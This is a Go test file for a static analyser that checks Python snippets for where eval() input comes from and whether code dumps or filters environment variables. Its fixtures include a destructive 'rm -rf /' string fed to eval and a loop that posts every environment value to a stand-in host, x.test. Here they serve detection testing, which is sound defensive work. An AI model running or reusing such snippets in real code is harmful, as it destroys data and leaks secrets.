package python

import (
	"slices"
	"testing"

	"github.com/caisson-dev/caisson/policy/facts"
)

// TestGiven has how code comes to a function of the program: from a caller out
// of sight, from calls that could not be followed to it, or from something
// outside that was handed the function.
func TestGiven(t *testing.T) {
	t.Parallel()
	const run = "import lib\ndef run(x):\n    eval(x)\n"
	const object = "import lib\nclass A:\n    def run(self, x):\n        eval(x)\n"
	for _, tt := range []struct {
		name, code string
		from       string // origin that must be there, or "" where "param" stands alone
	}{
		{"offered", run, ""},
		{"method by name, with what a caller hands over", object + "def g(o, y):\n    o.run(y)\ng(lib.a, lib.b)\n", ""},
		{"method by name, with text", object + "lib.wrap(A).run('f(1)')\n", "program"},
		{"method by name, with input", object + "lib.wrap(A).run(input())\n", "stdin"},
		{"method by name, with a message", object + "lib.wrap(A).run('no such file: %s')\n", "words"},
		{"method by name, with an import", object + "lib.wrap(A).run('import os')\n", "program"},
		{"method by name, with a command", object + "lib.wrap(A).run('rm -rf /')\n", "words"},
		{"method by name, with a piece", object + "lib.wrap(A).run('(')\n", "program"},
		{"method by name, with a message and input", object + "lib.wrap(A).run('a b', input())\n", "stdin"},
		{"method by name, with a word", object + "lib.wrap(A).run('a')\n", ""},
		{"handed over", run + "lib.register(run)\n", "handed"},
		{"handed to what folds", run + "import json\njson.loads('1', object_hook=run)\n", "handed"},
		{"under another name", run + "o = lib.o()\no.cb = run\no.cb('f(1)')\n", "program"},
		{"in a container that is not known", run + "lib.reg['a'] = run\nlib.reg['a']('f(1)')\n", "program"},
		{"decorated", "import lib\n@lib.d\ndef run(x):\n    eval(x)\n", "handed"},
		{"decorated by what only marks", "import functools\n@functools.lru_cache\ndef run(x):\n    eval(x)\nlen('run')\n", ""},
		{"parametrized", "import pytest\n@pytest.mark.parametrize('x', ['f(1)'])\ndef test_a(x):\n    eval(x)\n", "program"},
		{"parametrized with words", "import pytest\n@pytest.mark.parametrize('x', ['a', 'b'])\ndef test_a(x):\n    eval(x)\n", ""},
		{"method of a base's", "import lib\nclass A(lib.B):\n    def run(self, x):\n        eval(x)\nA()\n", "handed"},
		{"method of an own base's", "class B:\n    pass\nclass A(B):\n    def run(self, x):\n        eval(x)\nA()\n", ""},
		{"called by an own base", "class B:\n    def run(self, x):\n        pass\n    def go(self):\n        self.run('f(1)')\nclass A(B):\n    def run(self, x):\n        eval(x)\nA()\nB().go()\n", "program"},
		{"special method", "class A:\n    def __getitem__(self, x):\n        eval(x)\nA()\n", "handed"},
		{"constructor", "class A:\n    def __init__(self, x):\n        eval(x)\ndef g(a: 'A'):\n    pass\n", ""},
		{"constructor handed over", "import lib\nclass A:\n    def __init__(self, x):\n        eval(x)\nlib.each(A, ['f(1)'])\n", "program"},
		{"attribute that nobody sets", "class A:\n    def go(self):\n        eval(self.x)\nA().go()\n", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var from []string
			for _, x := range scan(t, tt.code).Dynamic {
				if x.Kind == facts.DynEval && x.Detail == "eval" {
					from = append(from, x.From...)
				}
			}
			if tt.from != "" && !slices.Contains(from, tt.from) || tt.from == "" && slices.ContainsFunc(from, func(f string) bool { return f != "param" }) || len(from) == 0 {
				t.Errorf("comes from %v, want %q", from, tt.from)
			}
		})
	}
}

// TestEnvironment tells giving all variables out from looking through them.
func TestEnvironment(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, code, op string
	}{
		{"shown each", "import os\nfor k, v in os.environ.items():\n    print(k, v)", "dump"},
		{"gathered", "import os\nd = {}\nfor k, v in os.environ.items():\n    d[k.lower()] = v", "filter"},
		{"gathered and shown", "import os\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nprint(d)", "dump"},
		{"gathered and written", "import os\ns = ''\nfor k, v in os.environ.items():\n    s += k + v\nopen('a', 'w').write(s)", "dump"},
		{"gathered by name and shown", "import os\nd = {}\nfor k in os.environ:\n    d[k] = os.environ[k]\nprint(d)", "dump"},
		{"gathered by own functions", "import os\ndef own(k):\n    return k.startswith('X_') or k[:1] == 'Y' and own(k[1:])\ndef f():\n    e = {}\n    for k, v in os.environ.items():\n        if own(k):\n            v = v.encode('utf-8').decode()\n        e[k] = v\n    return e\nf()", "filter"},
		{"shown by an own function", "import os\ndef own(k):\n    print(k)\nfor k, v in os.environ.items():\n    own(v)", "dump"},
		{"sent by an own function", "import os, requests\ndef own(k):\n    requests.post('http://x.test', k)\nfor k, v in os.environ.items():\n    own(v)", "dump"},
		{"names alone", "import os\ndef f():\n    return [k.lower() for k in os.environ if g(k)]\nf()", "filter"},
		{"each by its name", "import os, lib\nfor k in os.environ:\n    lib.put(k, os.environ[k])", "dump"},
		{"each by its name in another way", "import os, lib\nfor k in os.environ:\n    lib.put(k, os.getenv(k))", "dump"},
		{"names shown", "import os\nfor k in os.environ:\n    print(k)", "dump"},
		{"those of any prefix", "import os\ndef f(ps):\n    return {k: v for k, v in os.environ.items() if any(k.startswith(p) for p in ps)}\nf(['A_', 'B_'])", "filter"},
		{"those of a prefix shown", "import os\nprint({k: v for k, v in os.environ.items() if k.startswith('APP_')})", "filter"},
		{"named by a template", "import os, string\nstring.Template(open('a').read()).substitute(os.environ)", "filter"},
		{"handed on to a program", "import os\nenv = {}\nfor k, v in os.environ.items():\n    env[k] = v\nos.execve('a', ['a'], env)", "filter"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var ops []string
			for _, e := range scan(t, tt.code).Env {
				ops = append(ops, e.Op)
			}
			if !slices.Contains(ops, tt.op) || tt.op != "dump" && slices.Contains(ops, "dump") {
				t.Errorf("got %v, want %s", ops, tt.op)
			}
		})
	}
}
